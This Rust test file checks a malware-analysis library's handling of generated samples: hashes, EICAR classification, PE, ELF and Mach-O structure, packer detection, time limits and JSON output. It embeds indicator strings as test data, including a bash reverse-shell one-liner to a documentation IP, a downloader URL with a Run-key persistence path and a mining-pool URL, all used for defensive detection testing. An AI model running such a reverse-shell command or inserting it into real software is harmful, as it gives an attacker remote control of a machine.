//! The whole analysis on generated samples: EICAR, a PE, an ELF, plain text.

use std::io::Write;
use std::process::Command;

use lookout_analysis::{Analysis, FileKind, Limits, Rules, VerdictLevel, analyze, samples};

fn analyse(data: &[u8]) -> Analysis {
    let rules = Rules::starter().expect("starter rules compile");
    analyze(data, Some(&rules), &Limits::default())
}

fn rule_names(analysis: &Analysis) -> Vec<&str> {
    analysis
        .rule_matches
        .iter()
        .map(|m| m.rule.as_str())
        .collect()
}

/// The digest printed by a coreutils tool for the same bytes.
fn coreutils_digest(tool: &str, data: &[u8]) -> String {
    let mut file = tempfile::NamedTempFile::new().expect("temp file");
    file.write_all(data).expect("write");
    let output = Command::new(tool)
        .arg(file.path())
        .output()
        .expect("coreutils present");
    String::from_utf8_lossy(&output.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned()
}

#[test]
fn hashes_match_coreutils() {
    for data in [
        samples::EICAR.to_vec(),
        samples::pe(&[("KERNEL32.dll", &["ExitProcess"])], &[]),
        samples::elf(&[]),
    ] {
        let analysis = analyse(&data);
        assert_eq!(analysis.size, data.len() as u64);
        assert_eq!(analysis.hashes.md5, coreutils_digest("md5sum", &data));
        assert_eq!(analysis.hashes.sha1, coreutils_digest("sha1sum", &data));
        assert_eq!(analysis.hashes.sha256, coreutils_digest("sha256sum", &data));
        assert_eq!(analysis.hashes.sha512, coreutils_digest("sha512sum", &data));
    }
}

#[test]
fn eicar_is_named_as_the_test_file() {
    let analysis = analyse(samples::EICAR);
    assert_eq!(rule_names(&analysis), ["EICAR_test_file"]);
    // Its own level: a heading of "Malicious" over "It is harmless" said
    // two things at once.
    assert_eq!(analysis.verdict.level, VerdictLevel::TestFile);
    assert_eq!(analysis.verdict.level.label(), "Test file (harmless)");
    assert!(
        analysis.verdict.summary.contains("EICAR"),
        "{}",
        analysis.verdict.summary
    );
    assert!(
        analysis.verdict.summary.contains("harmless"),
        "{}",
        analysis.verdict.summary
    );
}

#[test]
fn a_pe_downloader_shows_its_structure_and_is_suspicious() {
    let data = samples::pe(
        &[
            ("KERNEL32.dll", &["ExitProcess", "GetProcAddress"]),
            ("urlmon.dll", &["URLDownloadToFileA"]),
            ("SHELL32.dll", &["ShellExecuteA"]),
        ],
        &[
            "hxxp://update-check[.]example/chart-update.exe",
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ecdis",
        ],
    );
    let analysis = analyse(&data);
    assert_eq!(
        analysis.file_type.kind,
        FileKind::Executable,
        "{:?}",
        analysis.file_type
    );
    let exe = analysis.executable.as_ref().expect("PE structure");
    assert_eq!(
        (
            exe.format.as_str(),
            exe.machine.as_str(),
            exe.bits,
            exe.role.as_str()
        ),
        ("pe", "i386", 32, "executable")
    );
    assert_eq!(exe.timestamp, Some(u64::from(samples::PE_TIMESTAMP)));
    let sections: Vec<&str> = exe.sections.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(sections, [".text", ".rdata"]);
    assert_eq!(exe.sections[0].permissions, "rx");
    let imports: Vec<(&str, Vec<&str>)> = exe
        .imports
        .iter()
        .map(|i| {
            (
                i.library.as_str(),
                i.functions.iter().map(String::as_str).collect(),
            )
        })
        .collect();
    assert_eq!(
        imports,
        [
            ("KERNEL32.dll", vec!["ExitProcess", "GetProcAddress"]),
            ("urlmon.dll", vec!["URLDownloadToFileA"]),
            ("SHELL32.dll", vec!["ShellExecuteA"]),
        ]
    );
    // pefile's definition: lower case, library without extension, in import order.
    let expected = coreutils_digest(
        "md5sum",
        b"kernel32.exitprocess,kernel32.getprocaddress,urlmon.urldownloadtofilea,shell32.shellexecutea",
    );
    assert_eq!(exe.imphash.as_deref(), Some(expected.as_str()));
    assert!(!exe.signed);
    assert_eq!(exe.overlay, None);
    assert_eq!(
        analysis.indicators.urls,
        ["http://update-check.example/chart-update.exe"]
    );
    assert_eq!(
        analysis.indicators.registry_keys,
        ["HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ecdis"]
    );
    assert!(
        rule_names(&analysis).contains(&"Downloader_APIs_and_execution"),
        "{:?}",
        rule_names(&analysis)
    );
    assert_eq!(analysis.verdict.level, VerdictLevel::Suspicious);
    assert!(
        analysis
            .verdict
            .reasons
            .iter()
            .any(|r| r.contains("program")),
        "{:?}",
        analysis.verdict.reasons
    );
}

#[test]
fn a_packed_pe_is_recognised_as_packed() {
    let analysis = analyse(&samples::pe_packed());
    let exe = analysis.executable.as_ref().expect("PE structure");
    let hints = exe.packer_hints.join("\n");
    assert!(hints.contains("UPX packer"), "{hints}");
    assert!(hints.contains("compressed or encrypted"), "{hints}");
    assert!(hints.contains("writable and executable"), "{hints}");
    assert!(hints.contains("GetProcAddress"), "{hints}");
    let overlay = exe.overlay.as_ref().expect("overlay");
    assert_eq!(overlay.size, 4096);
    assert!(overlay.entropy > 7.5);
    assert!(rule_names(&analysis).contains(&"PE_packed_with_UPX"));
}

#[test]
fn an_elf_reverse_shell_lookalike_is_malicious() {
    let data = samples::elf(&["/bin/sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]);
    let analysis = analyse(&data);
    let exe = analysis.executable.as_ref().expect("ELF structure");
    assert_eq!(
        (
            exe.format.as_str(),
            exe.machine.as_str(),
            exe.bits,
            exe.role.as_str()
        ),
        ("elf", "x86-64", 64, "executable")
    );
    let sections: Vec<&str> = exe.sections.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(sections, [".text", ".rodata", ".shstrtab"]);
    assert_eq!(exe.entry_point, 0x40_0000 + 120);
    assert_eq!(analysis.indicators.ips, ["198.51.100.7"]);
    assert_eq!(rule_names(&analysis), ["ELF_reverse_shell"]);
    assert_eq!(analysis.verdict.level, VerdictLevel::Malicious);
}

#[test]
fn a_macho_program_shows_its_structure() {
    let analysis = analyse(&samples::macho(&["stratum+tcp://pool.example:3333"]));
    let exe = analysis.executable.as_ref().expect("Mach-O structure");
    assert_eq!(
        (
            exe.format.as_str(),
            exe.machine.as_str(),
            exe.bits,
            exe.role.as_str()
        ),
        ("macho", "x86_64", 64, "executable")
    );
    let sections: Vec<&str> = exe.sections.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(sections, ["__TEXT,__text"]);
    assert_eq!(exe.sections[0].permissions, "rx");
    assert!(analysis.problems.is_empty(), "{:?}", analysis.problems);
    assert_eq!(rule_names(&analysis), ["Cryptocurrency_miner"]);
    assert_eq!(analysis.verdict.level, VerdictLevel::Malicious);
}

#[test]
fn the_time_limit_stops_the_work_and_says_so() {
    let nested = samples::zip(&[("inner.zip", &samples::zip(&[("note.txt", b"hello")]))]);
    let limits = Limits {
        time_limit: std::time::Duration::ZERO,
        ..Limits::default()
    };
    let analysis = analyze(&nested, Rules::starter().ok().as_ref(), &limits);
    let archive = analysis
        .archive
        .as_ref()
        .expect("the zip is still recognised");
    assert!(archive.entries.is_empty());
    assert_eq!(archive.entries_not_listed, 1);
    let problems: Vec<&str> = analysis.problems.iter().map(|p| p.part.as_str()).collect();
    assert_eq!(problems, ["limits", "rules"], "{:?}", analysis.problems);
    assert!(analysis.problems[0].message.contains("time limit"));
}

#[test]
fn plain_text_has_no_findings_and_says_so_carefully() {
    let analysis =
        analyse(b"Noon report: position 51 54.3N 001 18.2E, speed 12.1 kn, ETA Rotterdam 0600.\n");
    assert_eq!(analysis.file_type.kind, FileKind::Text);
    assert!(analysis.rule_matches.is_empty());
    assert_eq!(analysis.verdict.level, VerdictLevel::NoFindings);
    assert!(analysis.verdict.next_steps[0].contains("cannot prove"));
}

#[test]
fn truncated_executables_are_reported_not_fatal() {
    let data = samples::pe(&[("KERNEL32.dll", &["ExitProcess"])], &[]);
    for cut in [2, 64, 0x60, 0x140, 0x210, data.len() - 1] {
        let analysis = analyse(&data[..cut]);
        assert_eq!(analysis.size, cut as u64);
        if cut > 0x200 {
            assert!(
                analysis.executable.is_some() || !analysis.problems.is_empty(),
                "cut at {cut}"
            );
        }
    }
    let elf = samples::elf(&["/bin/sh"]);
    let analysis = analyse(&elf[..100]);
    assert!(!analysis.problems.is_empty() || analysis.executable.is_none());
}

#[test]
fn the_json_keeps_its_documented_shape() {
    let analysis = analyse(samples::EICAR);
    let json = serde_json::to_value(&analysis).expect("serialises");
    assert_eq!(json["schema"], "lookout-analysis/1");
    assert_eq!(json["verdict"]["level"], "test_file");
    assert_eq!(
        json["hashes"]["sha256"],
        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    );
    let back: Analysis = serde_json::from_value(json).expect("round-trips");
    assert_eq!(back, analysis);
}
